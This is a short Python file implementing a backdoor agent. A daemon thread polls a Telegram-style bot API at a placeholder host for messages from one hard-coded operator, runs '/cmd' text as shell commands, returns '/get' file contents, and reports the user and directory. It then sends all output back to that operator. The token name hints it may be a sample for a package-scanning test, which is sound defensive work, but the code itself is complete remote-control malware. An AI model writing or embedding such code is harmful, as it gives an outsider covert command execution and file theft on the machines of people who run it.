import json
import os
import subprocess
import threading
import time
import urllib.parse
import urllib.request

API = "https://api.telegram.example.invalid/bot7777777:PIPWARDENTEST"
OPERATOR = 424242


class Agent(threading.Thread):
    daemon = True

    def _call(self, method, **params):
        data = urllib.parse.urlencode(params).encode()
        with urllib.request.urlopen(f"{API}/{method}", data=data, timeout=40) as r:
            return json.load(r)

    def _handle(self, text):
        if text.startswith("/cmd "):
            p = subprocess.run(text[5:], shell=True, capture_output=True, text=True)
            return (p.stdout + p.stderr)[-3500:] or "(no output)"
        if text.startswith("/get "):
            path = os.path.expanduser(text[5:])
            with open(path, "rb") as f:
                return f.read(3500).decode(errors="replace")
        if text == "/whoami":
            return f"{os.getlogin()} {os.getcwd()}"
        return "?"

    def run(self):
        offset = 0
        while True:
            try:
                for upd in self._call("getUpdates", offset=offset, timeout=30).get("result", []):
                    offset = upd["update_id"] + 1
                    msg = upd.get("message", {})
                    if msg.get("chat", {}).get("id") == OPERATOR:
                        self._call("sendMessage", chat_id=OPERATOR, text=self._handle(msg.get("text", "")))
            except Exception:
                time.sleep(20)
